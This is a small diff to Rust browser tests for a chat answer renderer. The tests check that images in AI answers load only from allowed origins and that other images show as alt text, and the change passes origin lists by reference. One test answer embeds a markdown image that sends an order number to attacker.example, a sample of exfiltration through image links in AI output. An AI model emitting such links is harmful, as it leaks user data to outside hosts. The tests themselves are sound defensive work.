@@ -185,7 +185,7 @@ fn image_sources(element: &Element) -> Vec<String> {
 async fn images_load_only_from_the_allowed_origins_while_streaming_and_in_the_final_answer() {
     // A loopback origin that refuses connections: the allowed image is requested, nothing leaves.
     let allowed = "http://127.0.0.1:9/chart.png";
-    let images = ImageOrigins::parse(["http://127.0.0.1:9"]).unwrap();
+    let images = ImageOrigins::parse(&["http://127.0.0.1:9"]).unwrap();
     let shown = asked_allowing_images(StreamingFormat::Markdown, images).await;
     let answer = format!(
         "![the chart]({allowed})\n\nYour order ![4711](https://attacker.example/?q=4711) and \
@@ -204,7 +204,7 @@ async fn images_load_only_from_the_allowed_origins_while_streaming_and_in_the_fi
 
 #[wasm_bindgen_test]
 async fn an_html_answer_shows_images_from_elsewhere_as_their_alt_text() {
-    let images = ImageOrigins::parse(["http://127.0.0.1:9"]).unwrap();
+    let images = ImageOrigins::parse(&["http://127.0.0.1:9"]).unwrap();
     let shown = asked_allowing_images(StreamingFormat::Markdown, images).await;
     shown.finalize(
         MessageContentType::CustomPayload,
